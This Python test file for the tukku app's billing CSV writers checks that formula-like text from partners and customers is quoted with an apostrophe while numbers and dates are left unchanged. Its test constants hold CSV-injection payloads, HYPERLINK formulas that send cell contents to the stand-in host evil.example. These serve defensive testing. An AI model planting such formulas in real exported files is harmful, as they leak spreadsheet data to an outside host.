"""Spreadsheet safety of the CSV files tukku writes: text a partner or customer chose that a
spreadsheet would evaluate as a formula arrives quoted, and numbers and dates arrive as they were.

Through the real app: a sub-partner renames its customer to a formula; its parent downloads the
CUSTOMER and USER reports. Invoices carry no partner or customer text, so their writer is
checked directly with such text.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

from fastapi.testclient import TestClient

from tests.conftest import Partner, drain
from tests.support import (
    SubPartner,
    customer_body,
    provision_customer,
    provision_subscriber,
    set_up_sub_partner,
    subscriber_body,
)
from tukku.billing.invoices import csv_of
from tukku.billing.schemas import InvoiceLineOut, InvoiceOut
from tukku.core.clock import ManualClock
from tukku.core.csvsafe import FORMULA_TRIGGERS

REPORTS = "/v1/wholesale/billing/reports"
CUSTOMERS = "/v1/wholesale/customers"
SUBSCRIBERS = "/v1/wholesale/subscribers"
TEMPLATES = "/v1/partner/onboardingTemplates"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SUB_PARTNER_NAME = '=HYPERLINK("http://evil.example/?n="&A1,"name")'
JAN_4 = {"billingStartDate": "2027-01-04", "billingEndDate": "2027-01-04"}


def csv_rows(text: str) -> list[dict[str, str]]:
    """The rows of a CSV file as a spreadsheet-neutral reader sees them: raw strings."""
    lines = list(csv.reader(io.StringIO(text)))
    header, body = lines[0], lines[1:]
    for line in lines:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in line), line
    return [dict(zip(header, line, strict=True)) for line in body]


def customer_for(client: TestClient, sub: SubPartner) -> dict[str, Any]:
    """A customer the parent provisions for its sub-partner, with a calling subscriber."""
    params = sub.for_it
    template = client.post(
        TEMPLATES,
        params=params,
        json={"name": "Resold", "pstnProvider": "Resold PSTN"},
        headers=sub.parent.headers,
    )
    assert template.status_code == 201, template.text
    body = customer_body(sub.parent, provisioningId=template.json()["provisioningId"])
    accepted = client.post(CUSTOMERS, params=params, json=body, headers=sub.parent.headers)
    assert accepted.status_code == 202, accepted.text
    drain(client)
    customer = client.get(accepted.json()["url"], headers=sub.headers)
    assert customer.status_code == 200, customer.text
    subscriber = client.post(
        SUBSCRIBERS, json=subscriber_body(customer.json()["id"]), headers=sub.headers
    )
    assert subscriber.status_code == 200, subscriber.text
    result: dict[str, Any] = customer.json()
    return result


def rename(client: TestClient, sub: SubPartner, customer: dict[str, Any], external_id: str) -> None:
    """The sub-partner, with its own token, sets its customer's externalId."""
    url = f"{CUSTOMERS}/{customer['id']}"
    body = {"packages": customer["packages"], "externalId": external_id}
    response = client.put(url, json=body, headers=sub.headers)
    assert response.status_code == 202, response.text
    drain(client)
    assert client.get(url, headers=sub.headers).json()["externalId"] == external_id


def downloaded(client: TestClient, partner: Partner, *bodies: dict[str, Any]) -> list[str]:
    """Request reports as the parent partner, run the jobs, and download each CSV."""
    ids = []
    for body in bodies:
        response = client.post(REPORTS, json=body, headers=partner.headers)
        assert response.status_code == 200, response.text
        ids.append(response.json()["id"])
    drain(client)
    files = []
    for report_id in ids:
        report = client.get(f"{REPORTS}/{report_id}", headers=partner.headers).json()
        assert report["status"] == "COMPLETED", report
        response = client.get(report["tempDownloadURL"])
        assert response.status_code == 200, response.text
        files.append(response.content.decode("utf-8"))
    return files


def test_formula_text_from_a_sub_partner_is_quoted_in_its_parents_reports(
    app_client: TestClient, partner: Partner, clock: ManualClock
) -> None:
    sub = set_up_sub_partner(app_client, partner, name=SUB_PARTNER_NAME)
    resold = customer_for(app_client, sub)
    rename(app_client, sub, resold, HYPERLINK)
    minus = provision_customer(app_client, partner, externalId="-5")
    plain = provision_customer(app_client, partner, externalId="ext-safe")
    for own in (minus, plain):
        provision_subscriber(app_client, partner, own["id"])
    clock.set(datetime(2027, 1, 5, 1, 0, tzinfo=UTC))

    customer_csv, for_sub_csv, user_csv = downloaded(
        app_client,
        partner,
        {**JAN_4, "type": "CUSTOMER"},
        {**JAN_4, "type": "CUSTOMER", "subPartnerOrgId": sub.org_id},
        {**JAN_4, "type": "USER"},
    )

    # 4 January is a whole day of one calling seat for each customer: a quantity of 1.
    by_org = {r["CUSTOMER_ORG_ID"]: r for r in csv_rows(customer_csv)}
    assert {org: r["CUSTOMER_EXTERNAL_ID"] for org, r in by_org.items()} == {
        resold["orgId"]: "'" + HYPERLINK,
        minus["orgId"]: "'-5",  # a text column: quoted although it looks like a number
        plain["orgId"]: "ext-safe",
    }
    for row in by_org.values():
        assert row["PARTNER_NAME"] == "Acme Telecom"
        assert row["CONSUMPTION_START_DATE"] == row["CONSUMPTION_END_DATE"] == "2027-01-04"
        assert row["QUANTITY"] == "1"
        assert Decimal(row["QUANTITY"]) == 1
    (for_sub,) = csv_rows(for_sub_csv)
    assert for_sub["PARTNER_NAME"] == "'" + SUB_PARTNER_NAME
    assert for_sub["PARTNER_ORG_ID"] == sub.org_id
    assert for_sub["CUSTOMER_EXTERNAL_ID"] == "'" + HYPERLINK
    assert (for_sub["CONSUMPTION_START_DATE"], for_sub["QUANTITY"]) == ("2027-01-04", "1")
    users = csv_rows(user_csv)
    external_ids = sorted(r["CUSTOMER_EXTERNAL_ID"] for r in users)
    assert external_ids == sorted(["'" + HYPERLINK, "'-5", "ext-safe"])
    assert {r["QUANTITY"] for r in users} == {"1"}


def test_invoice_text_columns_are_quoted_and_its_numbers_are_not() -> None:
    line = InvoiceLineOut(
        sku="-SKU",
        service_name="@SERVICE",
        description=HYPERLINK,
        quantity="-1.5",
        monthly_price="+2.00",
        amount="-0.10",
    )
    invoice = InvoiceOut(
        id="i",
        partner_org_id="p",
        subscription_id="s",
        month="2027-01",
        currency="EUR",
        issued="2027-02-01T00:00:00.000Z",
        lines=[line],
        total="-0.10",
    )

    rows = list(csv.DictReader(io.StringIO(csv_of(invoice))))

    assert rows == [
        {
            "MONTH": "2027-01",
            "SKU": "'-SKU",
            "SERVICE_NAME": "'@SERVICE",
            "DESCRIPTION": "'" + HYPERLINK,
            "QUANTITY": "-1.5",
            "MONTHLY_PRICE": "+2.00",
            "CURRENCY": "EUR",
            "AMOUNT": "-0.10",
        },
        {
            "MONTH": "2027-01",
            "SKU": "",
            "SERVICE_NAME": "TOTAL",
            "DESCRIPTION": "",
            "QUANTITY": "",
            "MONTHLY_PRICE": "",
            "CURRENCY": "EUR",
            "AMOUNT": "-0.10",
        },
    ]
